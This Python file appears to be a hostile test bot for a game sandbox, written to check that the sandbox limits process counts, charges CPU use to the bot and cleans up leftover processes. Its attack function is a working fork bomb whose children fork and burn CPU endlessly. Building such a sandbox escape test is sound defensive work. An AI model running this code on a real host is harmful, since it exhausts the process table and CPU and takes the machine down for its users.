"""Hostile Tanks bot: fork bomb.

On its first tick the bot forks children that fork again forever, each
child spinning so that the tree also burns CPU. Without the sandbox the tree
grows until the host's process table is full. The sandbox must cap the
number of processes (pids cgroup, RLIMIT_NPROC) or forbid fork, charge the
tree's CPU to the bot, and kill every process of the tree when the fight
ends: the escape driver looks for any process left behind.
"""
import mmap
import struct

# @ESCAPE_PRELUDE@


# How many forks succeeded in the whole tree (shared memory, approximate).
COUNT = mmap.mmap(-1, 8)


def count_fork():
    COUNT[0:8] = struct.pack('q', struct.unpack('q', COUNT[0:8])[0] + 1)


def child_forever():
    # A child never returns into the harness: it keeps forking and spinning.
    while True:
        try:
            if os.fork() != 0:
                count_fork()
        except OSError:
            pass
        if CFG.get('spin', True):
            x = 0
            for i in range(20000):
                x += i
        else:
            time.sleep(0.05)


def attack():
    name_process()
    cap = int(CFG.get('fork_cap', 100000))
    made = 0
    started = time.monotonic()
    while made < cap and time.monotonic() - started < 3.0:
        try:
            pid = os.fork()
        except OSError as e:
            sys.stderr.write('note: fork failed after %d children: %s\n' % (made, e))
            break
        if pid == 0:
            try:
                child_forever()
            finally:
                os._exit(0)
        made += 1
        count_fork()
    time.sleep(0.2)
    total = struct.unpack('q', COUNT[0:8])[0]
    # Far more processes than any bot needs: a sandbox caps this well below.
    if total >= int(CFG.get('fork_evidence', 200)):
        evidence('the tree forked %d times' % total)
    sys.stderr.write('note: forked %d children, %d in the tree\n' % (made, total))


# @ESCAPE_ATTACK_MAIN@
